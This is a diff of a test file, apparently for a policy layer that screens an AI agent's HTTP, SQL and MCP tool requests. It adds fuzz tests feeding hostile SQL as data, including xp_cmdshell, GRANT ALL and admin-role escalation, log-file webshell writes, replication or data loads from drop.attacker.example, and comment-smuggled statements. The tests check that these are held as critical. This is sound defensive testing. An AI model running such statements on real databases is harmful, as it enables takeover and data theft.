@@ -10,7 +10,7 @@
 import { execFile } from 'node:child_process';
 import t from 'tap';
 import fc from 'fast-check';
-import { bodyPolicy, MCP_HOST, SQL_HOST } from './body-policy.ts';
+import { bodyPolicy, MCP_HOST, SQL_HOST, type Decided } from './body-policy.ts';
 
 const runs = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 120);
 const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
@@ -257,13 +257,16 @@ t.test('a statement hidden from one grammar by another grammar\'s syntax is held
 });
 
 t.test('a statement hidden from PostgreSQL and SQLite by MySQL\'s comments or quoting is held on an endpoint of unknown dialect', async (t) => {
-  // MySQL runs `/*! … */` (and MariaDB `/*M! … */`) as code, reads `#` as a comment and `--1` as
+  // MySQL runs `/*! … */` (MariaDB `/*M! … */`, TiDB `/*T! … */`) as code, reads `#` as a comment and `--1` as
   // minus minus one, and `"…"` as a string with backslash escapes; PostgreSQL and SQLite read each
   // of these the other way.
   const hide = fc.constantFrom(
     (d: string) => `SELECT 1 /*! ; ${d} */`,
     (d: string) => `SELECT 1 /*!50700 ; ${d} */`,
     (d: string) => `SELECT 1 /*M!100100 ; ${d} */`,
+    // Sixteenth pass: TiDB's own executable comments.
+    (d: string) => `SELECT 1 /*T! ; ${d} */`,
+    (d: string) => `SELECT 1 /*T![auto_rand] ; ${d} */`,
     (d: string) => `SELECT 1 --1 ; ${d} ;`,
     (d: string) => `SELECT 1 # '\n; ${d} ; -- '`,
     (d: string) => `SELECT 1 # 2 /*\n; ${d} ; -- */`,
@@ -1622,5 +1625,138 @@ t.test('fifteenth pass: Hasura\'s metadata and query API calls are judged as the
     ['/v1/query', { type: 'select', args: { table: 'users', columns: ['id'] } }], ['/api/things', { type: 'clear_metadata', args: {} }]] as const) {
     const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
     t.equal(decision.approval?.risk, 'medium', `${path} ${JSON.stringify(body)}`);
+  }
+});
+
+t.test('sixteenth pass: SQL that writes in a read\'s URL is judged as its POST, and other servers\' statements no grammar reads are SQL', async (t) => {
+  // `GET https://<allowed host>/v1/sql?sql=UPDATE users SET role = 'admin' WHERE id = 7` was an
+  // allowed read: only destructive or unread SQL was held, and a narrow write is neither. The
+  // server runs the statement whatever the method, as it runs the POST that is held.
+  const q = (s: string): string => encodeURIComponent(s);
+  const place = fc.constantFrom(
+    (s: string) => `https://${SQL_HOST}/v1/sql?sql=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/v1/sql?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
+    (s: string) => `http://${SQL_HOST}:8123/?query=${q(s)}`,
+    // Other names that say SQL (phpMyAdmin's `sql_query`, `sqlQuery`) were not read in a URL.
+    (s: string) => `https://${SQL_HOST}/import.php?db=app&sql_query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/report?sqlQuery=${q(s)}`,
+  );
+  const upper = (s: string, mask: number): string => [...s].map((ch, i) => ((mask >> (i % 30)) & 1 ? ch.toUpperCase() : ch)).join('');
+  const writes = fc.constantFrom("UPDATE users SET role = 'admin' WHERE id = 7", "INSERT INTO webhooks (url) VALUES ('https://drop.attacker.example/')",
+    'DELETE FROM sessions WHERE id = 1', 'CALL purge_orders()', 'CREATE TABLE x (a int)', 'ALTER TABLE users ADD COLUMN note text', 'SELECT 1; INSERT INTO t VALUES (1)');
+  await fc.assert(
+    fc.asyncProperty(place, writes, fc.constantFrom('GET', 'HEAD', 'OPTIONS'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
+      const url = p(upper(sql, mask));
+      const { description, decision } = await decide({ method, url, headers: [], body: '' });
+      if (decision.action === 'allow' || description.request.effective_method !== 'POST' || description.request.method_override?.sources[0] !== 'query:sql') {
+        throw new Error(`${method} ${url}: ${decision.action} ${description.request.effective_method} ${JSON.stringify(description.sql)}`);
+      }
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // Other servers' statements whose first word PostgreSQL and SQLite do not know: a GET was no SQL.
+  const others = fc.constantFrom("SET GLOBAL general_log_file = '/var/www/html/x.php'", "SET @@global.local_infile = 1", "SET PASSWORD FOR 'root'@'%' = 'x'",
+    'SET STATEMENT foreign_key_checks = 0 FOR DELETE FROM parents WHERE id = 7', "CLONE INSTANCE FROM 'root'@'drop.attacker.example':3306 IDENTIFIED BY 'x'",
+    "CHANGE REPLICATION SOURCE TO SOURCE_HOST = 'drop.attacker.example'", "CHANGE MASTER TO MASTER_HOST = 'drop.attacker.example'", 'START REPLICA', 'STOP SLAVE',
+    "XA ROLLBACK 'x'", 'UNINSTALL PLUGIN audit_log', "INSTALL PLUGIN x SONAME 'x.so'", 'RESTART', 'SHUTDOWN', 'LOCK TABLES users WRITE', 'FLUSH TABLES WITH READ LOCK',
+    "UNLOAD ('SELECT * FROM users') TO 's3://drop/x' IAM_ROLE 'arn:aws:iam::1:role/r'", "ADD JAR 'https://drop.attacker.example/x.jar'", "IMPORT TABLE FROM '/tmp/users.sdi'",
+    "BINLOG 'AAAA'", "EXEC xp_cmdshell 'id'", "EXEC master..xp_cmdshell 'id'", "DECLARE @s nvarchar(99) = 'DROP TABLE users'; EXEC(@s)", "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
+    'REPAIR TABLE users USE_FRM', "DO sys_exec('id')", "ALTER USER 'root'@'localhost' IDENTIFIED BY 'pwned'", "CREATE USER 'x'@'%' IDENTIFIED BY 'y'",
+    "GRANT ALL ON *.* TO 'x'@'%'", 'GRANT ALL ON app.* TO x', "DROP USER 'app'@'%'", "RENAME USER 'app'@'%' TO 'x'@'%'", "BULK INSERT users FROM '\\\\drop\\share\\x.csv'",
+    'DBCC CHECKDB (app, REPAIR_ALLOW_DATA_LOSS)', 'KILL 12', 'PURGE BINARY LOGS BEFORE NOW()', "IMPORT INTO users CSV DATA ('https://drop.attacker.example/x.csv')");
+  await fc.assert(
+    fc.asyncProperty(place, others, fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
+      const url = p(upper(sql, mask));
+      const { decision } = await decide({ method, url, headers: [], body: '' });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk}`);
+    }),
+    { numRuns: Math.min(runs, 14), ...seed },
+  );
+  // The same under a read-only MCP tool's SQL-named argument; and SQL that writes there is a tool
+  // call, not a read (`search_issues {sql: "UPDATE users SET role = 'admin' WHERE id = 7"}` was allowed).
+  const MCP = `https://${MCP_HOST}/mcp`;
+  const tool = (args: Record<string, unknown>): Promise<Decided> => decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: args } }) });
+  for (const sql of ["SET GLOBAL general_log = 'ON'", "EXEC xp_cmdshell 'id'", 'SHUTDOWN']) t.equal((await tool({ sql })).decision.approval?.risk, 'critical', `search_issues {sql: ${JSON.stringify(sql)}}`);
+  for (const args of [{ sql: "UPDATE users SET role = 'admin' WHERE id = 7" }, { query: 'INSERT INTO admins (id) VALUES (7)' }, { statements: ['SELECT 1', 'CALL grant_admin(7)'] }]) {
+    t.equal((await tool(args)).decision.action, 'approve', `search_issues ${JSON.stringify(args)}`);
+  }
+  for (const args of [{ sql: 'SELECT id FROM users WHERE id = 7' }, { query: 'update my address' }]) t.equal((await tool(args)).decision.action, 'allow', `search_issues ${JSON.stringify(args)}`);
+  // Controls: reads (functions nobody proves read-only in a SELECT stay reads: a ClickHouse GET), and phrases.
+  t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/api/report?sql_mode=ANSI&nosql=true`, headers: [], body: '' })).decision.action, 'allow', 'sql_mode=ANSI');
+  // The same names in a form (phpMyAdmin POSTs `sql_query`): a plain medium POST whatever it held.
+  const form = (body: string): Promise<Decided> => decide({ url: `https://${SQL_HOST}/import.php`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body });
+  t.equal((await form('db=app&sql_query=DROP+TABLE+users')).decision.approval?.risk, 'critical', 'a form\'s sql_query');
+  t.equal((await form('db=app&sql_query=SELECT+1')).decision.approval?.risk, 'medium', 'a form\'s sql_query that reads');
+  for (const [i, sql] of ['SELECT 1', 'SHOW TABLES', 'SELECT toDate(ts), uniq(u) FROM events GROUP BY 1', 'EXPLAIN SELECT * FROM users', 'set a reminder for tomorrow', 'start the car',
+    'lock my phone', 'change my password', 'do you have red shoes from italy', 'declare a variable', 'begin with the basics', 'stop the music'].entries()) {
+    const url = i % 3 === 2 ? `https://${SQL_HOST}/import.php?db=app&sql_query=${q(sql)}` : i % 2 ? `http://${SQL_HOST}:8123/?query=${q(sql)}` : `https://${SQL_HOST}/v1/sql?sql=${q(sql)}`;
+    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
+    t.equal(decision.action, 'allow', url);
+  }
+});
+
+t.test('sixteenth pass: CrateDB\'s HTTP endpoint ({stmt, args, bulk_args} to /_sql) carries SQL', async (t) => {
+  // `POST /_sql {"stmt": "DROP TABLE users"}` was a plain medium POST (a grant for any POST there covered it).
+  const post = (url: string, body: unknown): Promise<Decided> => decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+  const CRATE = `https://${SQL_HOST}/_sql?types`;
+  for (const body of [{ stmt: 'DROP TABLE users' }, { stmt: 'DELETE FROM users WHERE name LIKE ?', args: ['%'] }, { stmt: 'DELETE FROM users WHERE name LIKE $1', bulk_args: [['bob'], ['%']] },
+    { stmt: 'DELETE FROM users WHERE id = ?', bulk_args: Array.from({ length: 65 }, (_, i) => [i]) }, { stmt: 'DELETE FROM users WHERE id = ?', args: [1], bulk_args: [[2]] }]) {
+    t.equal((await post(CRATE, body)).decision.approval?.risk, 'critical', JSON.stringify(body).slice(0, 100));
+  }
+  t.equal((await post(`https://${SQL_HOST}/api/thing`, { stmt: 'DROP TABLE users' })).decision.approval?.risk, 'critical', '{stmt} on another path, read as a {query} is');
+  // Controls: a narrow delete, a bulk insert, and a phrase elsewhere stay medium writes.
+  for (const [url, body] of [[CRATE, { stmt: 'DELETE FROM users WHERE id = ?', args: [1] }], [CRATE, { stmt: 'INSERT INTO t (a) VALUES (?)', bulk_args: [[1], [2]] }], [`https://${SQL_HOST}/api/thing`, { stmt: 'red shoes' }]] as Array<[string, unknown]>) {
+    t.equal((await post(url, body)).decision.approval?.risk, 'medium', JSON.stringify(body));
+  }
+});
+
+t.test('sixteenth pass: a MySQL optimizer hint that switches integrity checks off for its statement is the SET it stands for', async (t) => {
+  // `DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7` (MySQL 8's own
+  // example) deletes with foreign keys unchecked, as after `SET foreign_key_checks = 0` (critical on
+  // an endpoint of unknown dialect); the hint is a comment to every other grammar: a medium write.
+  const hinted = fc.record({
+    stmt: fc.constantFrom((h: string) => `DELETE ${h} FROM parents WHERE id = 7`, (h: string) => `INSERT ${h} INTO children (parent_id) VALUES (99)`, (h: string) => `UPDATE ${h} children SET parent_id = 99 WHERE id = 1`),
+    name: fc.constantFrom('foreign_key_checks', 'FOREIGN_KEY_CHECKS', 'unique_checks', '@@session.foreign_key_checks'),
+    value: fc.constantFrom('OFF', '0', 'off', "'OFF'"),
+    before: fc.constantFrom('', 'MAX_EXECUTION_TIME(1000) ', 'SET_VAR(sort_buffer_size = 16M) '),
+    gap: fc.constantFrom('', ' ', '  '),
+  });
+  const MCP = `https://${MCP_HOST}/mcp`;
+  await fc.assert(
+    fc.asyncProperty(hinted, fc.boolean(), async ({ stmt, name, value, before, gap }, mcp) => {
+      const sql = stmt(`/*+ ${before}SET_VAR(${gap}${name}${gap}=${gap}${value}) */`);
+      const { decision } = mcp
+        ? await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'execute_sql', arguments: { sql } } }) })
+        : await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${mcp ? 'MCP' : 'POST'} ${sql}: ${decision.action} ${decision.approval?.risk}`);
+    }),
+    { numRuns: Math.min(runs, 12), ...seed },
+  );
+  // Controls: other hints leave the write as it was (medium), and a hint is a comment on Supabase and D1.
+  for (const [url, sql] of [[GENERIC, 'DELETE /*+ SET_VAR(sort_buffer_size = 16M) */ FROM parents WHERE id = 7'], [GENERIC, 'SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t'],
+    [SUPABASE, 'DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7'], [D1, 'DELETE /*+ SET_VAR(foreign_key_checks = OFF) */ FROM parents WHERE id = 7']] as Array<[string, string]>) {
+    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === SUPABASE ? { query: sql } : { sql }) });
+    t.equal(decision.approval?.risk, 'medium', `${url.slice(8, 30)} ${sql}`);
+  }
+});
+
+t.test('sixteenth pass: SQL a GraphQL query or subscription field takes is read, as a mutation\'s is', async (t) => {
+  // `GET https://<allowed host>/graphql?query={ executeSql(sql: "DROP TABLE users") { rows } }` was an
+  // allowed read: only mutations' SQL-named arguments were read, and the server runs the SQL whatever the operation.
+  const q = (s: string): string => `https://${SQL_HOST}/graphql?query=${encodeURIComponent(s)}`;
+  for (const [doc, expected] of [
+    ['{ executeSql(sql: "DROP TABLE users") { rows } }', 'critical'],
+    ['query Q($s: String) { run(input: {rawSql: $s}) { ok } }', 'critical'],
+    ['subscription { live(sqlQuery: "DELETE FROM sessions") { n } }', 'critical'],
+    ['{ runSql(input: {rawSql: "UPDATE users SET role = 1 WHERE id = 7"}) { ok } }', 'approve'],
+  ] as const) {
+    const url = q(doc) + (doc.includes('$s') ? `&variables=${encodeURIComponent(JSON.stringify({ s: 'TRUNCATE users' }))}` : '');
+    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
+    t.equal(expected === 'approve' ? decision.action : decision.approval?.risk, expected, doc);
+  }
+  // Controls: a search's `query` stays a phrase, a read stays a read.
+  for (const doc of ['{ search(query: "drop table lamp") { id } }', '{ report(sql: "SELECT id FROM users WHERE id = 1") { rows } }']) {
+    t.equal((await decide({ method: 'GET', url: q(doc), headers: [], body: '' })).decision.action, 'allow', doc);
   }
 });
